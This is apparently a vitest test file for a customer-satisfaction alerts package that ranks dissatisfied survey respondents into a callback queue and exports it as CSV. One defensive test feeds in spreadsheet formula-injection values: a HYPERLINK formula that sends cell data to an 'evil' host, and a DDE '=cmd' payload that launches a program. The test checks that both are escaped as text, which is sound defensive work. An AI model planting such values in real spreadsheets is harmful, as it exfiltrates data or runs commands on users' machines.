import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadTable, readDelimited } from '@satlab/data';
import { describe, expect, it } from 'vitest';
import type { Detection } from '@satlab/alerts';
import { buildCallbackQueue, customerValues, describeReason, detectDissatisfied, loadCustomerValues, loadRules, queueRows, writeQueueCsv } from '@satlab/alerts';
import { renderMessage } from '@satlab/messages';

/** The English texts of structured warnings. */
const texts = (ws: readonly { text: string }[]): string[] => ws.map((w) => w.text);

const fixture = (f: string): string => fileURLToPath(new URL(`./fixtures/${f}`, import.meta.url));
const detection = (): Detection =>
  detectDissatisfied(loadTable(fixture('small-survey.csv'), { codebook: fixture('small-codebook.yaml') }).table, loadRules(fixture('small-rules.yaml')));
const tmp = mkdtempSync(join(tmpdir(), 'satlab-alerts-'));

describe('customerValues', () => {
  it('gives the mid-distribution percentile (below + ½ equal) / N, ties sharing it', () => {
    const v = customerValues({ ids: ['a', 'b', 'c', 'd'], amounts: [10, 30, 30, 40] });
    expect([...v.byId.values()].map((x) => x.percentile)).toEqual([0.5 / 4, 2 / 4, 2 / 4, 3.5 / 4]);
    expect(v.basis).toBe('amount');
  });

  it('ranks segments by the built-in BTS order (Vedettes first) and reports unknown segments', () => {
    const v = customerValues({ ids: ['a', 'b', 'c', 'd'], segments: ['Perdus', 'Vedettes', 'Timides', 'Martiens'] });
    expect(v.segmentOrder).toEqual(['Vedettes', 'Fidèles endormis', 'Occasionnels', 'Timides', 'Perdus']);
    expect(v.byId.get('b')!.percentile).toBe(3.5 / 4);
    expect(v.byId.get('d')!.percentile).toBe(0.5 / 4);
    expect(texts(v.warnings)).toEqual(['segment "Martiens" not in the segment order: ranked below every known segment']);
  });

  it('reads the RFM CLI file: monetary by default, segment kept for display', () => {
    const v = loadCustomerValues(fixture('small-values.csv'));
    expect(v.basis).toBe('amount');
    expect(v.column).toBe('monetary');
    expect(v.customers).toBe(7);
    expect(v.byId.get('A08')).toEqual({ segment: 'Vedettes', amount: 900, percentile: 5 / 7 });
    const s = loadCustomerValues(fixture('small-values.csv'), { valueColumn: 'segment' });
    expect(s.basis).toBe('segment');
    expect(s.byId.get('A01')).toEqual({ segment: 'Perdus', amount: null, percentile: 0.5 / 7 });
  });

  it('names the file and the columns when the id or value column is absent', () => {
    expect(() => loadCustomerValues(fixture('small-values.csv'), { valueColumn: 'ca' })).toThrow(/small-values\.csv:1: no value column "ca" \(the columns are: "customer"/);
  });
});

describe('buildCallbackQueue', () => {
  it('without values: one row per customer, ordered by severity then id; no-id rows left out and reported', () => {
    const q = buildCallbackQueue(detection());
    expect(q.entries.map((e) => [e.priority, e.id, e.severity, e.score])).toEqual([
      [1, 'A01', 8, 8],
      [2, 'A08', 8, 8],
      [3, 'A02', 3, 3],
      [4, 'A03', 2, 2],
      [5, 'A05', 2, 2],
      [6, 'A07', 2, 2],
      [7, 'A04', 1, 1],
    ]);
    expect(q.missingId).toBe(1);
    expect(q.unknownValue).toBe(7);
    expect(texts(q.warnings)).toContain('no customer values given: the priority follows the severity only (then the id)');
    expect(q.warnings.map((w) => renderMessage(w, 'fr'))).toContain('aucune valeur client fournie : la priorité suit la gravité seule (puis l’identifiant)');
  });

  it('puts high-value dissatisfied customers first: score = severity × (1 + percentile)', () => {
    const q = buildCallbackQueue(detection(), loadCustomerValues(fixture('small-values.csv')));
    // Percentiles (monetary among the 7 customers of the file): A05 0.5/7, A01 1.5/7, A04 2.5/7, A02 3.5/7, A03 = A08 5/7; A07 absent.
    const expected: [string, number][] = [
      ['A08', 8 * (1 + 5 / 7)],
      ['A01', 8 * (1 + 1.5 / 7)],
      ['A02', 3 * (1 + 3.5 / 7)],
      ['A03', 2 * (1 + 5 / 7)],
      ['A05', 2 * (1 + 0.5 / 7)],
      ['A07', 2],
      ['A04', 1 * (1 + 2.5 / 7)],
    ];
    expect(q.entries.map((e) => e.id)).toEqual(expected.map((x) => x[0]));
    q.entries.forEach((e, k) => expect(e.score).toBeCloseTo(expected[k][1], 12));
    expect(q.entries.find((e) => e.id === 'A07')!.value).toBe('unknown');
    expect(q.unknownValue).toBe(1);
    expect(q.unknownValueIds).toEqual(['A07']);
    expect(texts(q.warnings)).toContain('1 queued customer of 7 is absent from ' + fixture('small-values.csv') + ': value "unknown", ranked as the least valuable (e.g. A07)');
  });

  it('merges a customer who answered twice (union of reasons, each rule once)', () => {
    const q = buildCallbackQueue(detection());
    const a02 = q.entries.find((e) => e.id === 'A02')!;
    expect(a02.rows).toEqual([9]);
    const twice = { ...detection() };
    twice.flags = [...twice.flags, { ...twice.flags[0], row: 10 }];
    const q2 = buildCallbackQueue(twice);
    expect(q2.entries[0]).toMatchObject({ id: 'A01', rows: [0, 10], severity: 8 });
    expect(texts(q2.warnings)).toContain('1 customer answered more than once and was flagged on several rows: their reasons were merged (severity counts each rule once)');
  });

  it('breaks ties deterministically by id, and valueWeight 0 ignores the value', () => {
    const q = buildCallbackQueue(detection(), loadCustomerValues(fixture('small-values.csv')), { valueWeight: 0 });
    // Same score and severity: the higher percentile first (A08 5/7 > A01 1.5/7; A03 5/7 > A05 0.5/7 > A07 unknown).
    expect(q.entries.slice(0, 2).map((e) => e.id)).toEqual(['A08', 'A01']);
    expect(q.entries.slice(3, 6).map((e) => e.id)).toEqual(['A03', 'A05', 'A07']);
    expect(() => buildCallbackQueue(detection(), null, { valueWeight: -1 })).toThrow(RangeError);
  });
});

describe('callback list export', () => {
  it('describes reasons in French and English with values and matched words', () => {
    const e = buildCallbackQueue(detection()).entries[0];
    expect(describeReason(e.reasons[0], 'fr')).toBe('Satisfaction globale ≤ 2 : overall = 1');
    expect(describeReason(e.reasons[4], 'fr')).toBe('Verbatim négatif (verbatim) : « Trop cher », « jamais de réponse »');
    expect(describeReason(e.reasons[4], 'en')).toBe('Negative verbatim (verbatim): "Trop cher", "jamais de réponse"');
  });

  it('writes a CSV that reads back with the documented columns and empty treated/outcome columns', () => {
    const q = buildCallbackQueue(detection(), loadCustomerValues(fixture('small-values.csv')));
    const path = join(tmp, 'queue.csv');
    const w = writeQueueCsv(path, q);
    expect(w.customers).toBe(7);
    const back = readDelimited(path);
    expect(back.header).toEqual(['priority', 'customer_id', 'score', 'severity', 'reasons', 'rules', 'segment', 'value', 'value_percentile', 'value_status', 'treated', 'outcome']);
    expect(back.rows[0].slice(0, 4)).toEqual(['1', 'A08', '13.7143', '8']);
    expect(back.rows[0][5]).toBe('low-overall+detractor+effort+unresolved+negative-verbatim');
    expect(back.rows[0].slice(6)).toEqual(['Vedettes', '900', '0.7143', 'known', '', '']);
    expect(back.rows[5].slice(6)).toEqual(['', '', '', 'unknown', '', '']);
    const fr = join(tmp, 'queue-fr.csv');
    writeQueueCsv(fr, q, { lang: 'fr' });
    const text = readFileSync(fr, 'utf8');
    expect(text.startsWith('\uFEFFpriority;customer_id;')).toBe(true);
    expect(text).toContain('1;A08;13,7143;8;Satisfaction globale ≤ 2 : overall = 2 | ');
  });

  it('is safe from formula injection: ids and reasons starting with = + - @ are written as text', () => {
    const d = detection();
    d.flags = d.flags.map((f, k) => ({ ...f, id: ['=HYPERLINK("http://evil/?"&A1)', '+1+2', '-3', '@SUM(A1)'][k % 4] + k }));
    d.flags[0].reasons = [{ ...d.flags[0].reasons[0], label: { fr: '=cmd|" /C calc"!A0', en: '=cmd|" /C calc"!A0' } }];
    const path = join(tmp, 'evil.csv');
    writeQueueCsv(path, buildCallbackQueue(d));
    const rows = readDelimited(path).rows;
    const ids = rows.map((r) => r[1]);
    for (const id of ids) expect(id).toMatch(/^'[=+\-@]/);
    const evil = rows.find((r) => r[4].includes('calc'))!;
    expect(evil[4]).toBe(`'=cmd|" /C calc"!A0: overall = 1`);
    const text = readFileSync(path, 'utf8');
    expect(text).not.toMatch(/(^|,)[=+\-@]/m);
  });

  it('queueRows gives the header then one row per customer', () => {
    const rows = queueRows(buildCallbackQueue(detection()), 'fr');
    expect(rows).toHaveLength(8);
    expect(rows[1].slice(0, 4)).toEqual([1, 'A01', 8, 8]);
    expect(rows[1][9]).toBe('inconnue');
  });
});
